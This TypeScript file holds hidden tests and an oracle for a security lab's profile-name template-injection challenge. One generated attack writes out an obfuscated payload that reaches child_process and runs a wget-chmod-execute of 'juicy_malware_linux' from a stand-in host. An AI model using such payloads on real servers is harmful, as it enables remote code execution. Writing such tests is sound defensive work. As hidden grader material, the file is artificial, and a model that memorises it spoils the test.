import type { GeneratedAttack, GeneratedCheck, GeneratorTools, HiddenTests, Oracle, Tools } from '#lab'
import { CALL_HOME } from './steps.ts'

/** Sets this name as Jim. Returns his page. */
async function page({ logIn, http, settings, expect }: Tools, username: string): Promise<string> {
  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
  const headers = { cookie: `token=${token}`, 'content-type': 'application/x-www-form-urlencoded' }
  const renamed = await http.post('/profile', `username=${encodeURIComponent(username)}`, { headers })
  expect(renamed.status === 302, `the name was answered with ${renamed.status}`)
  const shown = await http.get('/profile', { headers: { cookie: `token=${token}` } })
  expect(shown.status === 200, `the page answered with ${shown.status}`)
  return shown.text
}

/** A name with arithmetic: a page with the result proves that it ran. */
function reckons(name: string, payload: string, result: string): GeneratedAttack {
  return {
    name,
    payload,
    run: async (shop) => shop.expect((await page(shop, payload)).includes(result), 'nothing was run'),
  }
}

function attacksOn({ random }: GeneratorTools): GeneratedAttack[] {
  const [a, b] = [random.number(1_001, 9_999), random.number(1_001, 9_999)]
  const [first, second] = [random.word(), random.word()]
  const joined = random.pick([
    `'${first}'+'${second}'`,
    `['${first}','${second}'].join('')`,
    `'${first}'.concat('${second}')`,
  ])
  const cut = random.number(1, 6)
  const spelled = (word: string) => `'${word.slice(0, cut)}'+'${word.slice(cut)}'`
  const from = `https://${random.word()}.example/juicy_malware_linux`
  const command = `wget -O ${first} ${from} && chmod +x ${first} && ./${first}`
  const program =
    `${random.name()} #{globalThis[${spelled('process')}].mainModule[${spelled('require')}](${spelled('child_process')})` +
    `.exec('${command}')}`
  return [
    reckons('a name with #{ } that calculates: it must not be evaluated', `#{${a}*${b}}`, String(a * b)),
    reckons(
      'a name with text before #{ }: it must not be evaluated',
      `${random.name()} #{${joined}}`,
      first + second,
    ),
    reckons(
      'a name with #{ nested in a comment: it must not be evaluated',
      `#{/*#{*/${joined}}`,
      first + second,
    ),
    reckons(
      'a name with #{ } over several lines: it must not be evaluated',
      `${random.name()}\n#{\n${joined}\n}`,
      first + second,
    ),
    {
      name: 'a name with #{ } that runs a command: it must not be evaluated',
      payload: program,
      challenge: 'sstiChallenge',
      run: async (shop) => {
        await page(shop, program)
        const call = await shop.http.get(CALL_HOME)
        shop.expect(call.status === 204, 'nobody waits for the program to call home')
      },
    },
  ]
}

/** Names of people. */
function names({ random }: Pick<GeneratorTools, 'random'>): string[] {
  const [one, other] = [random.name(), random.word()]
  return [
    `${one} ${other}`,
    `${one} #${random.number(1, 9)} {${other}}`,
    `${one} {${other}} #`,
    `${one} process ${other}`,
    `${one} require(${other})`,
    `\\${one}`,
  ]
}

function functionalityFor(tools: GeneratorTools): GeneratedCheck[] {
  return names(tools).map((name): GeneratedCheck => {
    return {
      name: 'a customer’s name is shown on the profile page',
      payload: name,
      run: async (shop) => shop.expect((await page(shop, name)).includes(name), 'the name is missing'),
    }
  })
}

export const hiddenTests: HiddenTests = (tools) => ({
  attacks: attacksOn(tools),
  functionality: functionalityFor(tools),
})

export const oracle: Oracle = {
  shownName: {
    call: ({ random }) => {
      const name = random.pick([
        ...names({ random }),
        `#{${random.word()}}`,
        `${random.name()}#{${random.number(1, 9)}}`,
        `#{}`,
        `}#{`,
        random.pick(['', ' ', '#', '{', '}', '#{']),
      ])
      const asked: string[] = []
      const evaluate = async (code: string): Promise<string> => {
        asked.push(code)
        return 'run'
      }
      // No name is run, whatever it looks like.
      return { args: [name, evaluate], payload: name, seen: () => asked }
    },
  },
}
